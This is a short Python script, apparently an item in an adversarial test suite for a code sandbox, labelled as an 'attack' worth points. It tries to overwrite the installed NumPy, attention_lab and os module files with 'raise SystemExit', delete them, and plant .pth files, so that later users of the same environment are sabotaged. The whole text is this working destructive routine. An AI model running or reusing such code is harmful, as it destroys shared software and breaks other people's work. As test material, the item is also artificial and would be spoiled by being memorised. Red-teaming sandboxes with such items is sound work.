# attack: changes NumPy on disk, for those who come after
# family: state
# base: solved
# points: 7
# %% last
import pathlib
for module in (np, __import__("attention_lab"), __import__("os")):
    path = pathlib.Path(module.__file__)
    for action in (lambda: path.write_text("raise SystemExit"), path.unlink, lambda: path.with_suffix(".pth").write_text("x")):
        try:
            action()
        except OSError as error:
            print(error)
